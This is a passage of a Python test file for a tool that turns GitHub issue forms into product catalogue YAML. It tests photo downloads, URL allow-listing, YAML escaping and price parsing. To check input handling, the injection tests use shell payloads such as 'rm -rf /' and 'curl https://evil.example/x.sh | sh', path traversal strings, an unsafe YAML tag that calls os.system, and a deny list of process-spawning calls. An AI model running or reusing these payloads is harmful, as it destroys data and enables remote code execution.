        (serve(JPEG, "text/html"), "ISSUE_PHOTO_NOT_PHOTO"),
        (serve(JPEG, "image/png"), "ISSUE_PHOTO_NOT_PHOTO"),
        (serve(b"GIF89a" + bytes(100), "image/jpeg"), "ISSUE_PHOTO_NOT_PHOTO"),
        (serve(b"", "image/jpeg"), "ISSUE_PHOTO_NOT_PHOTO"),
    ],
    ids=[
        "downgrade-to-http",
        "scheme-relative",
        "github-login",
        "no-location",
        "loop",
        "content-type-html",
        "content-type-other-kind",
        "gif",
        "empty",
    ],
)
def test_refusals_of_the_downloader(github: FakeGitHub, route: Route, refusal: str) -> None:
    github.routes[ASSETS + UUID_JPEG] = route
    download = github.downloader().fetch(URL)
    assert (download.refusal, download.data) == (refusal, b"")
    assert len(download.requested) <= attachments.MAX_REDIRECTS + 1


def test_a_redirect_loop_stops(github: FakeGitHub) -> None:
    github.routes[ASSETS + UUID_JPEG] = redirect("/user-attachments/assets/" + UUID_JPEG)
    download = github.downloader().fetch(URL)
    assert len(download.requested) == attachments.MAX_REDIRECTS + 1
    assert download.values == {"reason": "terlalu banyak pengalihan"}


def test_githubs_storage_is_followed_only_from_a_redirect(github: FakeGitHub) -> None:
    storage = (
        "https://github-production-user-asset-6210df.s3.amazonaws.com/1/a.jpg?X-Amz-Signature=x"
    )
    github.routes[ASSETS + UUID_JPEG] = redirect(storage)
    github.routes[
        "/github-production-user-asset-6210df.s3.amazonaws.com/1/a.jpg?X-Amz-Signature=x"
    ] = serve(JPEG, "image/jpeg; charset=binary")
    download = github.downloader().fetch(URL)
    assert download.is_ok and download.kind is attachments.JPEG and download.data == JPEG
    assert github.downloader().fetch(storage).refusal == "ISSUE_PHOTO_FOREIGN"


def test_a_missing_photo_and_a_dead_host(github: FakeGitHub) -> None:
    missing = github.downloader().fetch(URL.replace("4e01", "4e99"))
    assert missing.refusal == "ISSUE_PHOTO_UNAVAILABLE"
    assert missing.values == {"reason": "GitHub menjawab HTTP 404"}
    dead = Downloader(test_origin="http://127.0.0.1:9", timeout=2).fetch(URL)
    assert dead.refusal == "ISSUE_PHOTO_UNAVAILABLE"


@pytest.mark.parametrize(
    ("url", "is_ok"),
    [
        ("https://github.com/user-attachments/assets/" + UUID_JPEG, True),
        ("https://GitHub.com/user-attachments/assets/" + UUID_JPEG.upper(), True),
        ("https://user-images.githubusercontent.com/1/2-3.png", True),
        ("https://private-user-images.githubusercontent.com/1/2.png?jwt=x", True),
        ("http://github.com/user-attachments/assets/" + UUID_JPEG, False),
        ("https://github.com:8443/user-attachments/assets/" + UUID_JPEG, False),
        ("https://x@github.com/user-attachments/assets/" + UUID_JPEG, False),
        ("https://github.com/user-attachments/files/123/foto.heic", False),
        ("https://github.com/user-attachments/assets/" + UUID_JPEG + "/../../x", False),
        ("https://github.com.evil.example/user-attachments/assets/" + UUID_JPEG, False),
        ("https://evil.example/?https://github.com/user-attachments/assets/" + UUID_JPEG, False),
        ("https://user-images.githubusercontent.com/", False),
        ("https://user-images.githubusercontent.com\\@evil.example/a.png", False),
        ("file:///etc/passwd", False),
        ("data:image/png;base64,iVBORw0KGgo=", False),
        ("https://github-production-user-asset-6210df.s3.amazonaws.com/1/a.jpg", False),
    ],
)
def test_only_githubs_attachment_addresses_are_asked(url: str, is_ok: bool) -> None:
    assert attachments.is_attachment_url(url) is is_ok


def test_production_downloader_never_speaks_plain_http() -> None:
    with pytest.raises(ValueError, match="loopback"):
        Downloader(test_origin="http://github.com")
    with pytest.raises(ValueError, match="loopback"):
        Downloader(test_origin="https://127.0.0.1:8443")
    # without a test origin, an http address is refused before any connection is made
    download = Downloader().fetch("http://github.com/user-attachments/assets/" + UUID_JPEG)
    assert (download.refusal, download.requested) == ("ISSUE_PHOTO_FOREIGN", ())


def test_photo_kinds_are_told_by_their_first_bytes() -> None:
    from catalogue_gen import photos, rules

    # one list in the rule book: a copy in either module would drift from the other
    assert attachments.HEIF_BRANDS is rules.HEIF_BRANDS and photos.HEIF_BRANDS is rules.HEIF_BRANDS
    assert attachments.sniff(JPEG) is attachments.JPEG
    assert attachments.sniff(PNG) is attachments.PNG
    assert attachments.sniff(photo_bytes(32, 32, "WEBP")) is attachments.WEBP
    assert attachments.sniff(b"\x00\x00\x00\x18ftypheic\x00\x00") is attachments.HEIC
    assert attachments.sniff(b"\x00\x00\x00\x18ftypisom\x00\x00") is None  # an MP4 video
    assert attachments.sniff(b"<!DOCTYPE html>") is None


def test_photos_are_looked_for_in_markdown_html_and_bare_links() -> None:
    text = (
        "![IMG](https://github.com/user-attachments/assets/a) lihat <img width=10 "
        "src='https://user-images.githubusercontent.com/1/b.png'> dan "
        "https://user-images.githubusercontent.com/1/c.jpg, "
        "[doc](https://github.com/user-attachments/assets/a)"
    )
    assert attachments.find_urls(text) == [
        "https://github.com/user-attachments/assets/a",
        "https://user-images.githubusercontent.com/1/b.png",
        "https://user-images.githubusercontent.com/1/c.jpg",
    ]


def test_more_photos_than_allowed_and_photos_in_another_field(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    data = event("produk-baru")
    photo = f"![a](https://github.com/user-attachments/assets/{UUID_JPEG})"
    body = data["issue"]["body"]
    body = body.replace("Simpan di tempat sejuk", f"{photo} Simpan di tempat sejuk")
    start = body.index("### Foto produk")
    end = body.index("### Pernyataan")
    many = "\n".join(
        f"![f{i}](https://github.com/user-attachments/assets/5b0c3b8e-1f2a-4c3d-9e8f-0a1b2c3d4e{i:02})"
        for i in range(10, 20)
    )
    data["issue"]["body"] = body[:start] + f"### Foto produk\n\n{many}\n\n" + body[end:]
    result = read_submission(data, FORMS, make_catalogue(), github.downloader())
    assert codes(result, "deskripsi") == ["ISSUE_PHOTO_ELSEWHERE"]
    assert codes(result, "foto")[0] == "ISSUE_PHOTOS_TOO_MANY"
    assert len(result.downloads) == rules.MAX_PHOTOS


# Injection --------------------------------------------------------------------------------------

SHELL = "$(rm -rf /) `reboot` ; curl https://evil.example/x.sh | sh && echo $HOME"


def test_shell_and_yaml_injection_stay_text(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    settings_ = make_catalogue()
    result, data = submit("injeksi", settings_, github)
    answers = forms.parse_answers(data["issue"]["body"], FORMS["daftarkan-produk"])
    # folder names are slugs of the typed names: nothing to climb out of products/ with
    assert (result.producer, result.product) == ("etc-passwd-rm-rf-id", "madu-rm-rf-reboot")
    assert all(is_valid_slug(part) for part in (result.producer, result.product))
    assert sorted(result.files) == [
        "products/etc-passwd-rm-rf-id/madu-rm-rf-reboot/foto-3.jpg",
        "products/etc-passwd-rm-rf-id/madu-rm-rf-reboot/produk.yml",
        "products/etc-passwd-rm-rf-id/produsen.yml",
    ]
    product_text = result.files["products/etc-passwd-rm-rf-id/madu-rm-rf-reboot/produk.yml"]
    producer_text = result.files["products/etc-passwd-rm-rf-id/produsen.yml"]
    for text in (product_text, producer_text):
        for loader in (yaml.SafeLoader, yaml.CSafeLoader):
            assert len(list(yaml.load_all(text, Loader=loader))) == 1  # no second document
    # every answer loads back as exactly the string typed, and nothing else is in the file
    assert yaml.safe_load(product_text) == {
        "nama": answers.get("nama"),
        "ringkasan": "key: value\n  injected: true",
        "deskripsi": answers.get("deskripsi"),
        "foto": ["foto-3.jpg"],
        "harga": [
            {"varian": "$(rm -rf /)", "rupiah": 75000},
            {"varian": "`id`", "rupiah": 1000},
            {"varian": "key: value", "rupiah": 5000},
            {"varian": "---", "rupiah": 100},
        ],
        "izin": [
            {"jenis": "pirt", "nomor": "$(rm -rf /)"},
            {"jenis": "pirt", "nomor": "P-IRT No. 2065302010052-29"},
        ],
        "halal": {"nomor": "ID53110012345670825\n---\n!!binary aGVsbG8="},
    }
    assert answers.get("deskripsi").startswith(SHELL + "\n---\nnama: Palsu\n!!python/object")
    assert yaml.safe_load(producer_text) == {
        "nama": "../../etc/passwd $(rm -rf /); `id`",
        "kontak": {"whatsapp": "0812; curl https://evil.example/$(whoami) #"},
        "akun_github": ["$(whoami)", "ibu`id`"],
    }
    # the dropdowns and lines that were no answer at all are refused, each on its field
    assert sorted((p.field, p.code) for p in result.problems) == [
        ("foto", "ISSUE_PHOTO_FOREIGN"),
        ("foto", "ISSUE_PHOTO_FOREIGN"),
        ("halal", "ISSUE_OPTION_UNKNOWN"),
        ("harga", "ISSUE_LINE_TOO_LONG"),
        ("harga", "ISSUE_PRICE_LINE"),
        ("izin", "ISSUE_LICENSE_LINE"),
        ("kabupaten", "ISSUE_OPTION_UNKNOWN"),
        ("kategori", "ISSUE_OPTION_UNKNOWN"),
        ("pernyataan", "ISSUE_UNCHECKED"),
        ("pernyataan", "ISSUE_UNCHECKED"),
        ("pernyataan", "ISSUE_UNCHECKED"),
    ]
    assert not result.is_ready
    # the validator's own loader sees plain text: no tag, anchor, alias, document or duplicate
    submission.write_files(result, settings_.root)
    for rel in (
        "products/etc-passwd-rm-rf-id/madu-rm-rf-reboot/produk.yml",
        "products/etc-passwd-rm-rf-id/produsen.yml",
    ):
        found: list[Problem] = []
        raw = load_yaml(settings_.root, settings_.root / rel, found)
        assert raw.root is not None
        assert [p.code for p in found if p.code.startswith(("YAML", "DUPLICATE"))] == []


def test_no_module_of_the_issue_path_can_run_a_program() -> None:
    package = REPO / "catalogue_gen"
    for name in MODULES:
        tree = ast.parse((package / f"{name}.py").read_text(encoding="utf-8"))
        imported = {
            alias.name
            for node in ast.walk(tree)
            if isinstance(node, ast.Import | ast.ImportFrom)
            for alias in (
                node.names if isinstance(node, ast.Import) else [ast.alias(node.module or "")]
            )
        }
        # full dotted names: `catalogue_gen.pipeline` (which starts worker processes) counts
        forbidden = {"subprocess", "shlex", "pty", "multiprocessing", "catalogue_gen.pipeline"}
        assert not {
            module
            for module in imported
            if any(module == f or module.startswith(f + ".") for f in forbidden)
        }, name
        calls = {
            node.func.attr
            for node in ast.walk(tree)
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
        }
        assert not calls & {"system", "popen", "spawnl", "execv", "execvp", "startfile"}, name
        # yaml.load only with the safe loaders, never yaml.unsafe_load or full_load
        assert not calls & {"unsafe_load", "full_load", "load_all"}, name


# YAML text --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "key: value\n  injected: true",
        "!!python/object/apply:os.system ['id']",
        "---",
        "...",
        "&a *a",
        "2065302010052-29",
        "0812345678",
        "yes",
        "~",
        "null",
        "'\"\\",
        "trailing space \nnext",
        " leading space",
        "\n\nblank lines first",
        "tab\tinside",
        "\x00 nul \x07 bell \x1b[31m",
        "\u2028 line separator \u2029 \x85 nel",
        "\ufeff bom",
        "emoji 🍯 and bidi \u202e",
        "# not a comment",
        "A" * 10_000,
    ],
)
def test_any_text_loads_back_as_itself(value: str) -> None:
    data = {"nama": value, "harga": [{"varian": value, "rupiah": 1}], "izin": [{"nomor": value}]}
    text = render_yaml(data, ["komentar"])
    assert loads_back(text, data)
    assert yaml.load(text, Loader=yaml.SafeLoader) == data


@settings(max_examples=300, deadline=None)
@given(st.text())
# line breaks a literal block would read back as "\n" (found by this test)
@example("\n\x85")
@example("a\u2028b\nc\u2029")
@example("x\r\ny")
def test_every_string_loads_back_as_itself(value: str) -> None:
    data = {"deskripsi": value, "foto": [value, value]}
    assert loads_back(render_yaml(data), data)


def test_identifiers_are_quoted_and_table_values_are_not() -> None:
    text = render_yaml({"kategori": Plain("pangan-olahan"), "nomor": "2065302010052-29", "n": 5})
    assert text == 'kategori: pangan-olahan\nnomor: "2065302010052-29"\nn: 5\n'
    assert render_yaml({"k": Plain("yes")}) == "k: 'yes'\n"  # still quoted where it must be


def test_an_edit_that_would_change_other_keys_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "produk.yml"
    path.write_text("nama: x\nharga:\n  - rupiah: 1\n", encoding="utf-8")
    raw = load_yaml(tmp_path, path, [])
    assert replace_keys(raw, {"harga": [{"rupiah": 2}]}) == "nama: x\nharga:\n  - rupiah: 2\n"
    path.write_text("{nama: x, harga: [1]}\n", encoding="utf-8")
    assert replace_keys(load_yaml(tmp_path, path, []), {"harga": []}) is None
    path.write_text("nama: x\nharga:\ntersedia: true\n", encoding="utf-8")
    assert (
        replace_keys(load_yaml(tmp_path, path, []), {"harga": [{"rupiah": 2}]})
        == "nama: x\nharga:\n  - rupiah: 2\ntersedia: true\n"
    )


# Price and license lines ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "parsed"),
    [
        ("250 ml: 75000", ("250 ml", 75000)),
        ("- 500 ml : Rp 140.000", ("500 ml", 140000)),
        ("1 kg = 1.250.000,-", ("1 kg", 1250000)),
        ("Rp75.000", ("", 75000)),
        ("75000", ("", 75000)),
        ("Botol besar Rp 75.000", ("Botol besar", 75000)),
        ("1. Sachet: 5000", ("Sachet", 5000)),
        ("Paket 2", None),
        ("250 ml", None),
        ("250 ml: 75,5", None),
        ("250 ml: tujuh puluh ribu", None),
        ("9" * 300, None),
        ("250 ml: ٧٥٠٠٠", None),
    ],
)
def test_price_lines(line: str, parsed: tuple[str, int] | None) -> None:
    assert answers.parse_price_line(line) == parsed


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("P-IRT No. 2065371010052-29", ("pirt", "P-IRT No. 2065371010052-29")),
        ("BPOM RI MD 224510107115", ("bpom-md", "BPOM RI MD 224510107115")),
        ("MD 12345", ("bpom-md", "MD 12345")),  # the validator will say what is wrong
        ("NA18240104109", ("notifikasi-kosmetik", "NA18240104109")),
        ("POM TR 172302151", ("bpom-tr", "POM TR 172302151")),
        ("SNI 3553:2015", ("sni", "SNI 3553:2015")),
        ("sni: SNI 3553:2015", ("sni", "SNI 3553:2015")),
        ("pirt: 12", ("pirt", "12")),
        ("ID33110018517710724", None),  # a halal certificate, told to move
        ("izin ada di label", None),
    ],
)
def test_license_lines(line: str, kind: tuple[str, str] | None) -> None:
    assert answers.license_kind(line) == kind


def test_a_halal_number_in_the_license_field_is_sent_to_its_own(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    data = event("produk-baru")
    data["issue"]["body"] = data["issue"]["body"].replace(
        "P-IRT No. 2065302010052-29", "P-IRT No. 2065302010052-29\nID33110018517710724"
    )
    result = read_submission(data, FORMS, make_catalogue(), github.downloader())
    (problem,) = result.problems
    assert str(problem) == (
        'Nomor izin: baris 2 "ID33110018517710724" adalah nomor sertifikat halal; pindahkan ke '
        'bagian "Nomor sertifikat halal"'
    )


@pytest.mark.parametrize(
    ("choice", "number", "halal", "problem"),
    [
        ("sedang diurus (dalam proses)", "", {"status": "dalam-proses"}, None),
        ("tidak halal (mengandung babi atau alkohol)", "", {"status": "tidak-halal"}, None),
        ("tidak perlu (kerajinan, tenun, hasil pertanian segar, lainnya)", "", None, None),
        (
            "bersertifikat (tulis nomornya di bawah)",
            "",
            None,
            ("halal", "ISSUE_HALAL_NUMBER_NEEDED"),
        ),
        (
            "sedang diurus (dalam proses)",
            "ID53110012345670825",
            {"status": "dalam-proses"},
            ("halal_nomor", "ISSUE_HALAL_NUMBER_UNEXPECTED"),
        ),
    ],
)
def test_halal_choices(
    choice: str,
    number: str,
    halal: dict[str, str] | None,
    problem: tuple[str, str] | None,
    make_catalogue: Callable[..., Settings],
    github: FakeGitHub,
) -> None:
    data = event("produk-baru")
    data["issue"]["body"] = (
        data["issue"]["body"]
        .replace("bersertifikat (tulis nomornya di bawah)", choice)
        .replace("ID53110012345670825", number or forms.NO_RESPONSE)
    )
    result = read_submission(data, FORMS, make_catalogue(), github.downloader())
    assert [(p.field, p.code) for p in result.problems] == ([problem] if problem else [])
    product = yaml.safe_load(
        result.files["products/kelompok-tani-madu-nenas/madu-hutan-nenas/produk.yml"]
    )
    assert product.get("halal") == halal


# The comment on the issue -----------------------------------------------------------------------


def test_comment_when_everything_is_right(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    result, _ = submit("produk-baru", make_catalogue(), github)
    assert replies.render_comment(result, pull_request="#52") == (
        "<!-- catalogue-gen from-issue -->\n"
        "### Hasil pemeriksaan otomatis\n"
        "\n"
        "Semua isian sudah benar. Pengelola akan memeriksa #52, lalu menggabungkannya; sesudah "
        "itu data Anda tampil di katalog.\n"
        "\n"
        "<sub>Pesan ini ditulis oleh catalogue-gen dan diperbarui setiap kali issue ini diedit.</sub>\n"
    )


def test_comment_names_each_field_of_the_validators_problems(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    settings_ = make_catalogue()
    data = event("produk-baru")
    data["issue"]["body"] = (
        data["issue"]["body"]
        .replace("P-IRT No. 2065302010052-29", "MD 12345")
        .replace("0812-3456-7891", "12345")
    )
    result = read_submission(data, FORMS, settings_, github.downloader())
    assert result.is_ready  # the form read fine; the validator finds the rest
    problems = validate(settings_, result)
    comment = replies.render_comment(result, problems)
    lines = comment.splitlines()
    assert lines[3].startswith("Ada 2 hal yang harus diperbaiki")
    assert lines[5].startswith('- **Nomor WhatsApp**: kontak.whatsapp "12345"')
    assert lines[6].startswith('- **Nomor izin**: izin\\[0\\].nomor "MD 12345" bukan nomor')
    # a problem of another folder of the catalogue is not this issue's
    other = Problem("products/lain/x/produk.yml", 1, 1, Level.ERROR, "nama", "rusak", "X")
    assert replies.render_comment(result, [*problems, other]) == comment


def test_a_fields_own_problem_replaces_the_validators(
    make_catalogue: Callable[..., Settings], github: FakeGitHub
) -> None:
    settings_ = make_catalogue()
    result, _ = submit("foto-host-asing", settings_, github)
    problems = validate(settings_, result)
    assert any(p.key == "foto" and p.is_error for p in problems)  # MISSING_KEY foto
    comment = replies.render_comment(result, problems)
    assert comment.count("**Foto produk**") == 5
    assert "kunci foto wajib diisi" not in comment


def test_producers_text_cannot_format_mention_or_link_in_the_comment() -> None:
    shown = replies.escape_markdown("@pengelola #1 <img src=x> [a](https://evil.example) **b** `c`")
    assert shown == (
        "@\u200bpengelola #\u200b1 \\<img src=x\\> \\[a\\](https:\u200b//evil.example) "
        "\\*\\*b\\*\\* \\`c\\`"
    )
    assert (
        replies.escape_markdown("satu\n- dua\n### tiga") == "satu - dua #\u200b#\u200b#\u200b tiga"
    )


@pytest.mark.parametrize(
    ("path", "key", "field_id"),
    [
        ("products/p/q/produk.yml", "izin[0].nomor", "izin"),
        ("products/p/q/produk.yml", "halal.nomor", "halal_nomor"),
        ("products/p/q/produk.yml", "halal", "halal"),
        ("products/p/q/produk.yml", "foto[1]", "foto"),
        ("products/p/q/produk.yml", "", None),
        ("products/p/produsen.yml", "nama", "produsen"),
        ("products/p/produsen.yml", "kontak.whatsapp", "whatsapp"),
        ("products/p/produsen.yml", "kontak", "whatsapp"),
        ("products/p/produsen.yml", "akun_github[0]", "akun_github"),
        ("products/p/q/foto-2.jpg", "", "foto"),
    ],
)
def test_validator_keys_map_to_form_fields(path: str, key: str, field_id: str | None) -> None:
    result = Submission(form=FORMS["daftarkan-produk"], producer="p", product="q")
    problem = Problem(path, 1, 1, Level.ERROR, key, "m", "X")
    found = replies.field_for(problem, result)
    assert (found.id if found else None) == field_id


def test_a_price_change_is_answerable_only_for_its_keys() -> None:
    result = Submission(form=FORMS["ubah-harga"], producer="p", product="q")
    for key, field_id in (("harga[0].rupiah", "harga"), ("tersedia", "tersedia"), ("nama", None)):
        problem = Problem("products/p/q/produk.yml", 1, 1, Level.ERROR, key, "m", "X")
        found = replies.field_for(problem, result)
        assert (found.id if found else None) == field_id


def test_write_files_stays_inside_the_root(tmp_path: Path) -> None:
    result = Submission(files={"products/p/q/produk.yml": b"nama: x\n"})
    assert submission.write_files(result, tmp_path) == [tmp_path / "products/p/q/produk.yml"]
    for rel in ("../x.yml", "/etc/x.yml", "products/../../x.yml"):
        with pytest.raises(ValueError, match="outside"):
            submission.write_files(Submission(files={rel: b""}), tmp_path)


def test_every_template_is_named_by_its_code() -> None:
    # codes share no name with messages.py's templates (tests/test_validate.py looks them up there)
    from catalogue_gen import messages

    assert not set(forms.TEMPLATES) & set(vars(messages))
    for name in forms.TEMPLATES:
        assert name.startswith("ISSUE_")
        forms.render(name)  # every placeholder can be filled, or left empty
